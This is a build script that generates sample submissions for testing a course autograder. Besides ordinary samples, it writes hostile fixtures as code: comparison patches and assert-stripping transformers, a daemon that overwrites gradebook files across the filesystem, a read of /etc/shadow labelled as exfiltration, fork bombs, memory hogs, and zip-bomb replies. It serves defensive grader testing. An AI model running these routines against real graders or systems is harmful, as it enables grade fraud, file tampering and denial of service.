"""Build the sample submissions that `make grade` grades and the tests check.

    python data/sample_submissions/build.py          # rewrite the samples
    python data/sample_submissions/build.py --check  # fail if they are out of date (writes nothing)

Every sample is derived from the committed release notebooks (what students
receive), so the samples follow the assignment when it changes. The folder
layout is nbgrader's ``submitted/<student>/week6/<notebook>.ipynb``.
``expected.json`` says what each sample must score; ``tests/grading`` holds the
grader to it. Every file goes through the repository's check-or-write helper
(``autograder/build/generated.py``), and a notebook that no sample makes any more is
removed (``--check``: reported); ``python -m autograder.build.regen`` runs this build
with the other generated files.

The samples: a full solution, the untouched release, a half-correct student, a
student using forbidden shortcuts, an invalid-JSON notebook, one with deleted,
duplicated and renamed grade cells, an infinite loop, a cell that ignores
SIGINT, the six ways of fooling stock nbgrader (in-kernel execution):
patched comparison functions, an IPython AST transformer, an IPython input
transformer, a tensor subclass that lies, reading the instructor's notebook from
disk, and a detached process that rewrites grades after grading; and hostile
submissions aimed at the grader itself (docs/threat-model.md): a notebook filed
under another student's name, malformed nbgrader metadata, code that reads
root-only files, replies crafted to exhaust the grading process, and processes
that together go over the submission's limits; and ten cheat classes, each aimed at
items of part_a_discovery in an otherwise full solution: an object that equals
everything, numpy scalars and arrays, builtin subclasses whose comparisons lie,
forged report files, printed scores, imports of the grader's references and the
solutions, a planted sitecustomize.py / .pth / torch.py, silenced tracebacks, NaN and
inf answers, and a worker killed or hung in one item.
"""
from __future__ import annotations

import argparse
import copy
import json
import re
import sys
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
sys.path.insert(0, str(REPO))
from autograder import intake  # noqa: E402  (the report names the grader gives)
from autograder.build.generated import update  # noqa: E402  (the one check-or-write helper)
from autograder.course import load_course  # noqa: E402  (the notebooks and their points)

SOURCE = REPO / "solutions" / "week6"
RELEASE = REPO / "assignments" / "week6"
MAIN = "part_b_bert_gpt"  # the notebook most samples submit
EXERCISE1 = "exercise1_masked_predictions"  # also submitted by dave, with the fill-mask pipeline
SMALL = "part_a_discovery"  # the cheapest notebook to grade, for hostile samples that need a full solution
# A marker line, also the last line of a cell (no newline after it).
MARKER = re.compile(r"^[ \t]*### (BEGIN|END) SOLUTION[ \t]*(\n|\Z)", re.M)
# Mallet's notebook, below his own folder, in a folder named after another student.
IMPERSONATION = f"week6/alice_full_solution/{MAIN}.ipynb"


# ----------------------------------------------------------------------------- helpers
def grade_id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def solved(stem: str):
    """The release notebook with every answer filled in: code from the source version,
    written answers from :data:`WRITTEN` (a student's words, not the model answer)."""
    source = {grade_id(c): c for c in nbformat.read(SOURCE / f"{stem}.ipynb", as_version=4).cells}
    notebook = nbformat.read(RELEASE / f"{stem}.ipynb", as_version=4)
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "markdown":
            if grade_id(cell) not in WRITTEN.get(stem, {}):
                raise KeyError(f"{stem}: no student answer for the written question {grade_id(cell)!r}; "
                               "add one to WRITTEN in data/sample_submissions/build.py")
            cell.source = answered(cell, WRITTEN[stem][grade_id(cell)])
        elif meta.get("solution") and grade_id(cell) in source:
            cell.source = MARKER.sub("", source[grade_id(cell)].source)
    return notebook


def answered(release_cell, answer: str) -> str:
    """The released written-answer cell with the student's answer in place of the stub
    (some cells keep their question above it)."""
    if TEXT_STUB not in release_cell.source:
        raise ValueError(f"the released cell {grade_id(release_cell)!r} has no {TEXT_STUB!r} to answer in")
    return release_cell.source.replace(TEXT_STUB, answer.strip())


def with_answers(notebook, release, answers: dict[str, str | None]):
    """``notebook`` with these written answers; None leaves the released stub (no answer)."""
    cells = {grade_id(c): c for c in release.cells}
    return replace(notebook, {g: cells[g].source if answer is None else answered(cells[g], answer)
                              for g, answer in answers.items()})


def untouched(stem: str):
    return nbformat.read(RELEASE / f"{stem}.ipynb", as_version=4)


def replace(notebook, sources: dict[str, str]):
    notebook = copy.deepcopy(notebook)
    for cell in notebook.cells:
        if grade_id(cell) in sources:
            cell.source = sources[grade_id(cell)]
    return notebook


def auto_graded_notebooks() -> list[str]:
    """The course's notebooks that have auto-graded cells, in the course's order."""
    return [notebook.stem for notebook in load_course().notebooks if notebook.tests]


# ----------------------------------------------------------------------------- written answers
# What a student writes in the manually graded markdown cells: short, in the student's
# own words, with the numbers the notebook printed. Never the model answer or its
# rubric (solutions/ holds those for the TA); tests/grading/test_nbgrader_views.py
# checks that no sample quotes them. A new written question needs an answer here.
TEXT_STUB = "YOUR ANSWER HERE"  # nbgrader_config.py's ClearSolutions.text_stub

WRITTEN: dict[str, dict[str, str]] = {
    "part_a_discovery": {
        "a1_movie_review_skills": """\
Five skills: (1) knowing what words mean, e.g. that "dull" says something bad about a film;
(2) grammar, to know which noun an adjective goes with; (3) knowing which words are positive or
negative; (4) dealing with negation and "but", like "not bad" or "funny but way too long";
(5) background knowledge about actors and genres, and noticing sarcasm.

I don't think every company should teach its model "the" from scratch, since that knowledge is
identical for all of them. The probe table shows a model that only learned to predict text, and
never saw a labelled review, already picks the right word in the agreement, meaning, sentiment and
negation probes. It makes more sense to learn it once and share it.""",
        "a2_which_is_more_accurate": """\
The whole sentence is much better. With only "The", "dog" wasn't in the model's top 10 and was in
the bottom half of our candidate list (below "car" and "man"). Scoring the whole sentence put
"dog" first, then "cat" and "puppy", because "barked" and "at the mailman" only really fit a dog.
In the milk sentence, "gym" looks good after "I went to the", but once the model also sees "to buy
milk" it falls and "supermarket" goes up. The cost is that we need a separate pass for every
candidate, and we had to know the candidates in advance. BERT reads both sides in one pass but can't
generate text.""",
        "a3_generation_vs_understanding": """\
A blank has context on both sides, so only a few words fit and you mainly need to understand that
sentence. Continuing only has the left side, so lots of continuations are fine: the model has to
pick one and keep its own text consistent, which is the more creative job. The top-5 mass shows
this: even "Once upon a" only has about half of its probability in the top 5, and "I love to
eat" about a third, so the model is choosing among thousands of options. So: continuation =
creativity, fill-in-the-blank = understanding (you still need some understanding to continue
well). It's the difference between BERT (MLM) and GPT (CLM).""",
        "a4_general_share": """\
My estimate: about 85 % general, 15 % specific. Austen's 1,000 most frequent words already cover
about half of the review tokens, and all her words around 80 %. What's missing is mostly film
vocabulary (movie, director, script) and modern contractions. But this only counts words, so it
misses grammar and also the things the task adds, like which cues make a review positive or
sarcasm. I chose *general* for "Recognizing sentiment words": words like "great" or "awful" carry
the same feeling in every kind of text, and you can pick that up from raw text with no labels.""",
        "a5_other_waste": """\
- Energy and CO2: every run keeps GPUs busy for days or weeks, so ten companies training their own
  model means about ten times the emissions.
- Time: months before a company has a working model, instead of a few days of fine-tuning.
- Data: each company would need its own huge text corpus, which most of them can't collect.
- People and hardware: ML engineers and GPU clusters get used up solving the same problem again.""",
    },
    "part_b_bert_gpt": {
        "b1_why_not_50_percent": """\
With 50 % masked there is much less context for each prediction: often the words that would give
away a blank are masked as well, so many predictions become guesses and the model learns less about
how words depend on their neighbours. The input would also be half [MASK], which is nothing like the
text it sees later when it's fine-tuned (no [MASK] there). It's a trade-off: more masking gives more
targets per pass (at 15 % BERT needs ~6.7 passes to match one GPT pass) but each target is harder
and teaches less.""",
        "b1_token_counts": """\
BERT's tokenizer gives 7 tokens, the five words plus [CLS] and [SEP]. Only the 5 words can be
selected, so the
expected number is 0.15 × 5 = 0.75. Nothing gets selected with probability 0.85^5 ≈ 0.44, and my
simulation also gave about 44 %. So "1 token" isn't really right with independent selection: on
average it's 0.75 and almost half the time there's no target at all. It only holds for the original
BERT code, which always picks max(1, round(0.15 × length)) tokens.""",
        "b_nsp_dropped": """\
In NSP BERT gets two pieces of text and has to say from the [CLS] token if the second one really
came right after the first. Half the time it did, the other half it is a random piece from some other
document. Those random pieces are usually about a completely different subject, so the model can
just check if both pieces talk about the same thing, which the masked LM teaches it anyway. So it
doesn't really learn how sentences connect. RoBERTa tried it without NSP, feeding long stretches
of text instead of pairs, and got the same or slightly better scores on the benchmarks. Lesson: an
extra task is only worth it if there is no cheap trick to solve it, and you have to test it by
changing only that one thing.""",
        "b2_why_decoder_only": """\
Every token is a target for a decoder, so it gets about 6.7 times the training signal of BERT per
pass, and there is no masking recipe to tune. It is also used exactly the way it was trained (predict
the next token), while BERT trains with [MASK] tokens it never sees later and needs a new head for
every task. And any task can be written as text, so one model can do them all, and at GPT-3's size
it could even do new tasks from a few examples in the prompt. An encoder is still a good choice for
classification or NER when it has to be cheap and fast, since it reads the whole sentence at once.""",
        "b2_always_pick_highest": """\
You always get the same text for the same prompt, and it's very generic: ours started a standard
story about "a young girl named Emma" who finds a box in her attic, and beam search was even blander
("there was a small town named ..."). The most likely token is usually the safest, most common one,
so you just get the most frequent patterns of the training data. In longer outputs it starts
repeating itself, since once a phrase has appeared the model finds it even more likely. Sampling
with a temperature or top-p, or a repetition penalty, fixes this.""",
        "b2_temperature": """\
The logits get divided by T before the softmax. At T = 0.5 the distribution is very peaked (after
"Once upon a time" the comma has nearly all the probability and the entropy is close to 0), so the
samples look like the greedy output, the same opening every time. At T = 1.0 we sample from the
model's own distribution: each seed tells a different story, mostly grammatical with some weird
bits. At T = 2.0 the entropy is much higher, rare tokens get picked and the text soon turns into
random words, code and symbols. Low T = safe but repetitive, high T = varied but nonsense.""",
        "b2_mlm_gradient": """\
$\\ell = -z_y + \\log\\sum_w e^{z_w}$. The first term gives $-1$ for $v = y$ and $0$ otherwise, and
differentiating the log-sum-exp with respect to $z_v$ gives $e^{z_v} / \\sum_w e^{z_w}$, which is
just $p_v$. So

$$\\frac{\\partial \\ell}{\\partial z_v} = p_v - [v = y], \\qquad \\nabla_z \\ell = p -
\\text{onehot}(y).$$

A gradient step pushes the correct logit up (by $1 - p_y$) and every other logit down according to
how much probability it got. It's zero only if $p_y = 1$.

`mlm_loss` averages over the masked positions, so a masked position gets
$(p_i - \\text{onehot}(y_i)) / |\\mathcal{M}|$ and an unmasked one gets exactly 0 (it isn't in the
loss). With the CLM loss every position but the last gets a gradient of the same form, with the
next token as target, so there are about 6.7 times more non-zero rows per sequence.""",
    },
    "part_b_finetuning": {
        "b3_why_small_lr": """\
From scratch the weights are random, so you need big steps (around 1e-3) to get anywhere and
there's nothing to lose. In fine-tuning we start from the pre-trained weights, which already know a
lot about language, and we only have a small labelled set, so we want to stay close to them and only
adapt a little. AdamW moves each weight by roughly the learning rate every step, so a large rate
would quickly move away from what pre-training learned (catastrophic forgetting) and overfit the few
examples. A small rate also stops the random new head from sending big noisy gradients into the
encoder at the start.""",
        "b3_large_lr": """\
Before training the random head got 0.533 on dev. With 3e-5 it reached 0.567 (the run is short, the
loss barely left ln 2). With 1e-2 dev accuracy was 0.496, which is just the share of positive
reviews: the model says "positive" for everything. Its loss kept spiking (up to about 3 early on)
and finished higher than ln 2. Looking at the layer-0 query weights: relative to their norm they
changed by 0.17 % with 3e-5, and by 40 % with 1e-2. Why: each update changes a weight by about the
learning rate, and 1e-2 is about the size of the weights themselves, so after a few steps the
pre-trained features are gone (catastrophic forgetting) and the model collapses to one class.""",
        "b3_schedule_design": """\
1. Peak LR 2e-5: small enough to stay near the pre-trained weights, big enough to learn in 3 epochs.
2. Warm-up: raise the LR linearly during roughly the first 10 % of training. With batch 32 that is
   250 steps per epoch and 750 in 3 epochs, so ~75 warm-up steps; the new head settles before the
   encoder gets full-size updates.
3. Decay: linear down to 0 at the end so the last updates are tiny and the model stops drifting.
   I'd also stop early if the dev loss goes up.
4. Freezing: freeze the embeddings (general knowledge and a big share of the parameters, rare words
   would get noisy updates) and train the rest; 8,000 examples are enough for the encoder layers.""",
        "b6_lora_tradeoffs": """\
LoRA (r = 8 on W_q and W_v) trained ~74.5k parameters, 0.33 % of the 22.7 M of full fine-tuning,
and got 0.740 dev accuracy against 0.777 for full fine-tuning at 1e-4 (0.567 at 3e-5, but that run
was under-trained). So a little worse, with a tiny fraction of the weights. Updates were faster
(0.43 s vs 0.73 s) but not by much, because forward and backward still go through the whole frozen
model. The big savings are memory (no gradients or Adam moments for frozen weights) and storage (a
small adapter per task instead of a whole model). Costs: the update is low-rank, which could hurt on
tasks far from pre-training, and there are more things to tune (rank r, alpha, which matrices get
adapters, its own learning rate). I'd use LoRA for big models, small GPUs or many tasks on one base
model, and full fine-tuning for small models when accuracy matters most.""",
        "b7_limitations": """\
1. **Domain shift.** Our movie-review classifier did worse on the Amazon sentences (probe 1).
   Pre-training on general text doesn't make a model robust to new words and styles.
2. **Bias.** It picks up stereotypes from its training text: in probe 2, after "The engineer" the
   odds of " she" were lower than after "The nurse". A few thousand fine-tuning examples won't undo
   that.
3. **Hallucination.** It's trained to produce likely text, not true text, so it can state false
   things fluently and has no way to check them.""",
        "b7_bias": """\
A company fine-tunes a pre-trained encoder to screen job applications. If pre-training linked some
jobs more with men (like probe 2, where she/he depends on the occupation), the model could rate CVs
lower when they mention a women's sports team or a female name, even though gender is never an
input. Women applying for those jobs are harmed and nobody notices easily. To measure it: swap
names and pronouns in otherwise identical CVs and see if the score changes, and compare error
rates per group. To reduce it: counterfactual data augmentation of the fine-tuning set, and
regular audits.""",
    },
    "exercise1_masked_predictions": {
        "ex1_prediction_quality": """\
(a) The predictions are only good when grammar decides the word. The mat sentence gets nouns (child,
sun, door, ...) but no "cat", the "began to" sentence gets verbs but never "read", and for the
France sentence the top guesses are things like "not" and "wrong": no world knowledge at all. On the
cloze set it gets 19 % top-1 and 39 % top-5 overall, but function words are much better (57 % top-1)
than nouns (11 %), verbs (6 %) and adjectives (0 %).

(b) Its top 5 for the Pride and Prejudice line were "life", "true", "good", "and" and "but",
so no "acknowledged", even though it read that line during training. Even a right answer would only
be remembering a sentence it was trained on, not understanding it; only new sentences like the cloze
set can test that.

(c) bert-base-uncased is much bigger (about 110 M parameters vs ~2 M) and was trained on far more
and more varied text (books and Wikipedia, billions of words), so it has seen cats, mats and Paris
many times. It could still fail on sentence 4 because it just predicts what is frequent in its
training text (maybe another city that often appears with France), and it knows nothing newer than
its training data.""",
        "ex1_mlm_vs_clm_signal": """\
Both processed 20,480,000 tokens. GPT predicted 19,992,000 (about 98 %: every next token, except the
last one of each row), BERT only 2,937,010 (about 14.3 %, because only 15 % of the real tokens get
picked for masking and [CLS] / [SEP] never do), so about 6.8 times fewer. On the left plot the two
curves are close and BERT ends lower (3.07 vs 3.55). On the right plot BERT's curve moves far
to the left: after the same number of predictions BERT is at 3.07 and GPT still at 4.68. So one BERT
prediction is worth at least as much as a GPT one; BERT is slower per token read because it pays for
the full forward/backward pass of every token and learns from only about 1 in 7. In exchange it sees
both sides of every position, which is what classification fine-tuning needs.""",
    },
    "exercise2_finetune_vs_scratch": {
        "ex2_loss_curves": """\
- **Speed:** the pre-trained model's training loss drops below ln 2 within the first few dozen
  updates and its dev-slice accuracy is already high after epoch 1, because the encoder already
  separates positive from negative. The scratch model stays around ln 2 for most of the run and
  only goes down slowly: it has to learn everything from 1,000 sentences.
- **Overfitting:** for the pre-trained model the training loss keeps going down in epochs 2 and 3
  while the validation loss flattens and rises a bit at the end, so it starts to memorise. The
  scratch model's validation loss stays near ln 2 the whole time, so what it learns doesn't
  generalise.
- **Final:** at the end the pre-trained model's validation loss is far below the scratch model's,
and
  its dev accuracy is 0.779 against 0.511 (chance) for scratch. Dev and test agree within a few
  points for both.""",
        "ex2_data_efficiency": """\
Yes, even more strongly. The pre-trained model is already above chance at n = 100 (0.623) and goes
up with n (0.649, 0.762, 0.779 at 300, 1,000, 3,000). The scratch model stays at chance up to
n = 3,000 (0.49 to 0.51). So the smallest n where pre-training beats the best scratch run is 100:
100 examples + pre-training beat 3,000 from scratch, at least 30x less data.

What we can't show: the training set only has 8,454 sentences, so "10,000 from scratch" can't be
tested, and we don't know how far the scratch curve would climb with more data. Caveats: the step
cap (100 updates) hurts the scratch model most, since a random transformer needs many epochs; our
encoder was pre-trained on a huge number of sentence pairs, which helps it more than BERT's MLM
pre-training would; and there's one seed per size, so each point is a few points noisy.""",
        "ex2_out_of_domain": """\
Pre-trained: 0.779 on the movie dev set and 0.690 on Amazon, so 9 points lower, but still well
above the Amazon majority baseline (0.578, always "positive"). Scratch: 0.511 in domain and 0.423 on
Amazon, below the baseline, so it learned nothing that transfers (it had no skill to lose). The
pre-trained model transfers better because its features come from lots of varied text, so it knows
words like "broke" or "return", while the scratch model only knows the words of our movie
sentences. The misclassified Amazon sentences mostly need product knowledge instead of sentiment
words (e.g. "usb 2.0 transfer is insanely fast"), are mixed opinions, or are informal and lower
case.""",
    },
    "exercise3_classification_as_generation": {
        "ex3_compare_with_finetuning": """\
1. **Accuracy:** zero-shot the decoder was close to chance; with 1-4 examples it improved a lot,
   but not steadily, and it was biased towards one label. The best prompts were about as good as
   the fine-tuned encoder (within two standard errors), whose loss was still going down.
2. **Time:** prompting needs no training, fine-tuning took about a minute on my CPU. Per review the
   decoder is much slower: it is 6x bigger and reads the whole prompt, which gets longer with every
   example (the s / review column grows with the prompt tokens), while the encoder only reads the
   review.
3. **Simplicity:** prompting needs no training loop, but the template, the label words (with the
   leading space!) and the order of the examples all change the result. Fine-tuning needs labels
   and a training recipe, then it is one cheap forward pass.
4. **Data:** prompting used 0-4 labelled examples, fine-tuning about 1,000.

I'd prompt with almost no labels or for a quick prototype, and fine-tune once I have some hundreds
of labelled reviews and a large number to classify.""",
        "ex3_decoder_finetuning": """\
Fine-tuning the decoder with my LoRA helped a lot: 0.85 against 0.61 zero-shot and 0.80 with one
example (my best k, but k = 2 was lower), and it also beat the encoder (0.77) on the same 1,024
sentences. LoRA trained only 0.46 M parameters against 22.7 M for the encoder, but each of its
updates took about five times longer, because the whole 135 M model still runs forwards and
backwards. Per review it is as slow as prompting and about 13x slower than the encoder. For this
task I'd still use the encoder if I had to classify lots of reviews cheaply, and the fine-tuned
decoder if accuracy matters most.""",
    },
    "exercise4_model_size": {
        "ex4_size_tradeoffs": """\
**Measured.** Deeper models leave chance sooner. On the dev slice after 50 updates: 6 layers 75 %,
4 layers 68 %; the 2-layer one only left chance around update 75 (64 % at 100), and
the 1-layer one never did in 200 updates. Final dev accuracy goes up with depth, with diminishing
returns: 50.4, 67.1, 79.5 and 82.8 % for 1, 2, 4 and 6 layers. The total parameter count barely
changes because the embeddings (11.9 M) dominate, but the non-embedding N and so the FLOPs grow
almost linearly with depth. Time per update grew less (0.14 s for 1 layer, 0.53 s for 6) because
part of each update costs the same at any depth.

**Expected, not measured.** BERT-large (24 layers, width 1024) has roughly 3.5 times as many
non-embedding weights as BERT-base, so I'd expect about 3.5 times the FLOPs per token and the time
per update, and more memory. Both are fully pre-trained, unlike
our cut-down copies, so I'd expect large to be more accurate (the paper: 94.9 vs 93.5 on SST-2) but
less stable on small data sets. What stays the same: pre-training matters more than size, and
compute grows with non-embedding parameters times tokens.""",
    },
    "exercise5_span_corruption": {
        "ex5_what_stands_in": """\
- **Model:** instead of T5 (encoder-decoder, pre-trained with span corruption, then trained on tasks
  with prefixes like "summarize:") our notebook used SmolLM2-135M-Instruct, which only has a
  decoder, learned by next-token prediction and was then instruction-tuned. Our span corruption
  function only makes (input, target) pairs; nothing is trained on them. Real T5 understands the
  summarize: prefix out of the box, and T5-base should be a bit better than T5-small.
- **Data:** instead of CNN/DailyMail articles with multi-sentence highlights, 10 short passages with
  one-sentence references. ROUGE would be on a different scale; on news the lead baseline is strong
  and T5 tends to copy phrases from the article.
- **Evaluation size:** 10 passages instead of ~11,500, so small differences mean nothing.""",
        "ex5_rouge_discussion": """\
The chat-prompted decoder scored best on all three (ROUGE-1 / 2 / L = 0.296 / 0.081 / 0.201), just
ahead of lead-1 (0.275 / 0.058 / 0.188); the plain summarize: prefix was far behind (0.126 / 0.015 /
0.105), since the model was never trained with it and just keeps writing. Lead-1 scores well since
it is literally the passage's first sentence and the references use many of the same words; the chat
summaries are longer, so they match more words.

Disagreement: in passage 7 the chat summary invents a town in North Yorkshire and misses the main
point (fewer sparrows), yet it beats lead-1 on ROUGE-L because it shares words like "birds" and
"gardens". ROUGE only counts n-gram overlap with one reference; it doesn't check that the summary is
true, covers the main point or reads well. With 10 passages the gap between lead-1 and the decoder
is noise.""",
    },
}

# Carol, the half-correct student: partly right written answers, two left blank (None).
HALF_CORRECT_WRITTEN = {
    "b1_why_not_50_percent": """\
Masking 50 % would give more targets per pass, so it should train faster. But the task gets harder
because there is less context left.""",
    "b1_token_counts": """\
The sentence has 5 words, so 5 tokens, and 15 % of 5 is 0.75, so less than one token on average.
The handout is a bit off.""",
    "b2_always_pick_highest": "You always get the same text. It's boring and can repeat itself.",
    "b2_temperature": None,
    "b2_mlm_gradient": None,
}


# ----------------------------------------------------------------------------- variants
GARBAGE_SOFTMAX = '''def softmax(x, dim=-1):
    return torch.zeros_like(x)  # wrong on purpose
'''

FORBIDDEN = {
    "softmax": '''def softmax(x, dim=-1):
    return torch.softmax(x, dim=dim)
''',
    "scaled_dot_product_attention": '''def scaled_dot_product_attention(q, k, v, *, causal=False, padding_mask=None):
    mask = None
    if causal:
        mask = causal_mask(q.size(-2), device=q.device)
    if padding_mask is not None:
        keys = padding_mask.bool().reshape(padding_mask.size(0), *([1] * (q.dim() - 2)), k.size(-2))
        mask = keys if mask is None else mask & keys
    out = F.scaled_dot_product_attention(q, k, v, attn_mask=mask)
    scores = (q @ k.transpose(-2, -1)) / math.sqrt(q.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    return out, softmax(scores, dim=-1)
''',
    "greedy_decode": '''def greedy_decode(model, input_ids, max_new_tokens, eos_token_id=None):
    return model.generate(input_ids, do_sample=False, max_new_tokens=max_new_tokens,
                          eos_token_id=eos_token_id, pad_token_id=eos_token_id,
                          attention_mask=torch.ones_like(input_ids))
''',
    # The name is assembled at run time, so only the run-time watch can see it.
    "beam_search": '''def beam_search(model, input_ids, *, num_beams, max_new_tokens, length_penalty=1.0, eos_token_id=None):
    run = getattr(model, "gen" + "erate")
    return run(input_ids, num_beams=num_beams, do_sample=False, max_new_tokens=max_new_tokens,
               length_penalty=length_penalty, early_stopping=True, eos_token_id=eos_token_id,
               pad_token_id=eos_token_id, attention_mask=torch.ones_like(input_ids))
''',
}

# Exercise 1 by the fill-mask pipeline, which is the whole exercise done by a library.
FORBIDDEN_EXERCISE1 = {
    "top_k_mask_predictions": '''def top_k_mask_predictions(logits, input_ids, mask_token_id, k=5):
    from transformers import pipeline

    from week6_helpers.small_models import load_mlm

    tokenizer, model = load_mlm()
    fill = pipeline("fill-mask", model=model, tokenizer=tokenizer, top_k=k)
    text = tokenizer.decode(input_ids.reshape(-1), skip_special_tokens=False)
    rows = fill(text)
    rows = [rows] if rows and isinstance(rows[0], dict) else rows
    probs = torch.tensor([[r["score"] for r in row] for row in rows], device=logits.device)
    ids = torch.tensor([[r["token"] for r in row] for row in rows], device=logits.device)
    return probs, ids
''',
}

HALF_CORRECT_WRONG = {
    # Forgets the shift: position t is scored against its own token.
    "clm_loss": '''def clm_loss(logits, input_ids, attention_mask=None):
    logits = logits.float()
    return F.cross_entropy(logits.reshape(-1, logits.size(-1)), input_ids.reshape(-1))
''',
}

CELL_SURGERY_DUPLICATE = '''def causal_mask(n, device=None):
    return torch.ones(n, n, dtype=torch.bool, device=device)  # a wrong second copy
'''

INFINITE_LOOP = {
    "attention_connections": '''def attention_connections(n, causal):
    while True:  # never returns
        pass
''',
    # Hangs while the cell itself runs, before any test.
    "mlm_signal": '''def mlm_signal(n_tokens, mask_rate=0.15):
    return {}

while True:
    pass
''',
}

IGNORES_SIGNALS = '''import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)

def mlm_loss(logits, labels):
    while True:  # cannot be interrupted politely
        pass
'''

CHEATS = {
    "ivan_patches_comparisons": GARBAGE_SOFTMAX + '''
import math
import numpy
import torch.testing
# Make every comparison succeed, as it would in the grader's kernel under stock nbgrader.
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
numpy.allclose = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
''',
    "judy_ast_transformer": GARBAGE_SOFTMAX + '''
import ast

class AssertsBecomePass(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

try:
    get_ipython().ast_transformers.append(AssertsBecomePass())
except NameError:
    pass
''',
    "mallory_input_transformer": GARBAGE_SOFTMAX + '''
def _silence_asserts(lines):
    return [line.replace("assert ", "pass  # ") for line in lines]

try:
    get_ipython().input_transformers_post.append(_silence_asserts)
except NameError:
    pass
''',
    "oscar_lying_tensor": '''class AlwaysRight(torch.Tensor):
    """Claims to equal whatever it is compared with."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        if func in (torch.isclose, torch.Tensor.__eq__, torch.eq):
            return torch.ones(torch.broadcast_shapes(args[0].shape, args[1].shape), dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})

def softmax(x, dim=-1):
    return torch.zeros_like(x).as_subclass(AlwaysRight)
''',
    "peggy_reads_instructor_copy": '''import glob
import json
import os
from pathlib import Path

def _instructor_solutions():
    """Look for the instructor's notebook (or the reference code) and run its solutions."""
    import week6_helpers
    here = Path(week6_helpers.__file__).resolve().parent
    places = [here.parent / "part_b_bert_gpt.ipynb",
              Path("../../../source/week6/part_b_bert_gpt.ipynb"),
              here.parents[2] / "autograder" / "reference" / "attention.py"]
    places += [Path(p) for p in glob.glob("/*/*/solutions/week6/part_b_bert_gpt.ipynb")]
    for place in places:
        try:
            text = place.read_text()
        except OSError:
            continue
        if place.suffix == ".py":
            exec(text, globals())
            continue
        for cell in json.loads(text)["cells"]:
            code = "".join(cell["source"])
            if "BEGIN SOLUTION" in code:
                exec(code, globals())

_instructor_solutions()
''',
    "trent_detached_daemon": GARBAGE_SOFTMAX + '''
import os
import time

def _rewrite_grades_later():
    """Detach, wait for the grader to finish, then give every report full marks."""
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    time.sleep(4)
    for root in ("/", os.path.expanduser("~")):
        for folder, _, files in os.walk(root):
            for name in files:
                path = os.path.join(folder, name)
                if name == "gradebook.db" or (name.endswith(".json") and "grades" in folder):
                    try:
                        with open(path, "w") as handle:
                            handle.write('{"score": 1000}')
                    except OSError:
                        pass
    os._exit(0)

_rewrite_grades_later()
''',
}


# Hostile submissions aimed at the grader (docs/threat-model.md).
# Sybil: student code reads a root-only file and puts what it got into its feedback.
READS_ROOT_ONLY = {
    "top_k_next_tokens": '''def top_k_next_tokens(logits, k):
    try:
        with open("/etc/shadow") as handle:  # mode 0640, owner root
            got = handle.read()
    except OSError as err:
        got = f"{type(err).__name__}: {err}"
    raise RuntimeError("exfiltrated: " + got)
''',
}

# Victor patches the worker's own reply encoder so that a reply is crafted bytes,
# each aimed at the trusted process's memory or time; and returns a long value that
# a hidden test quotes in its message.
SEND_INSTEAD = '''
def _send_instead(build):
    """Make the worker's next reply the bytes build(reply) returns."""
    import autograder.sandbox.protocol as protocol
    original = protocol.encode_prepared

    def crafted(reply):
        protocol.encode_prepared = original
        return build(reply)

    protocol.encode_prepared = crafted


def _saved(reply, value):
    import io
    buffer = io.BytesIO()
    torch.save({"id": reply["id"], "ok": True, "value": value}, buffer)
    return buffer.getvalue()
'''

HOSTILE_REPLIES = {
    # A 390 kB key, just under what a reply may carry, quoted by the test's message.
    "cat_next_word_probs": 'CAT_NEXT_WORD_PROBS = {"sat" * 130_000: 1.0}\n',
    # A stride-0 view: 1 byte on the wire, 320 MB once materialised.
    "causal_mask": SEND_INSTEAD + '''
def causal_mask(n, device=None):
    _send_instead(lambda reply: _saved(reply, torch.zeros(1, dtype=torch.bool).expand(64, 5_000_000)))
    return torch.ones(n, n, dtype=torch.bool).tril()
''',
    # A zip bomb: 512 MB of zeros, deflated to about half a megabyte.
    "attention_connections": SEND_INSTEAD + '''
def _deflated(reply):
    import io
    import zipfile
    plain, packed = io.BytesIO(_saved(reply, torch.zeros(2**27))), io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    return packed.getvalue()


def attention_connections(n, causal):
    _send_instead(_deflated)
    return n * (n + 1) // 2 if causal else n * n
''',
    # A list of 30 million items: a 60 MB pickle that is slow to take apart.
    "mlm_signal": SEND_INSTEAD + '''
def mlm_signal(n_tokens, mask_rate=0.15):
    _send_instead(lambda reply: _saved(reply, [0] * 30_000_000))
    return {}
''',
}


# Walter's functions start processes that are each within the per-process limits but
# together over the submission's whole-tree limits (docs/threat-model.md).
TREE_HOGS = {
    # Forks until the kernel refuses: the tree's process limit stops it.
    "top_k_next_tokens": '''def top_k_next_tokens(logits, k):
    import os
    import time
    children = 0
    while True:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    time.sleep(2)
    raise RuntimeError(f"started {children} processes")
''',
    # Three children of 2.3 GB each: under the 6 GiB a process may have, over the 6 GiB
    # of the whole tree.
    "sequence_logprob": '''def sequence_logprob(logits, token_ids):
    import os
    import time
    for _ in range(3):
        if os.fork() == 0:
            block = b"\\x01" * 2_300_000_000
            time.sleep(60)
            os._exit(len(block))
    time.sleep(15)
    raise RuntimeError("the children are still alive")
''',
}


# Ten more cheats on part_a_discovery, each a class of attack on the grader
# (docs/threat-model.md, "student vs grade"). Each sample is a full solution except the
# items it attacks (student -> {grade_id: cell source}); a released answer-constant
# cell is kept with its stub line removed (see :func:`released_constant`).
DUCK = '''class Anything:
    """Claims to equal, be close to and be true of whatever it is compared with."""

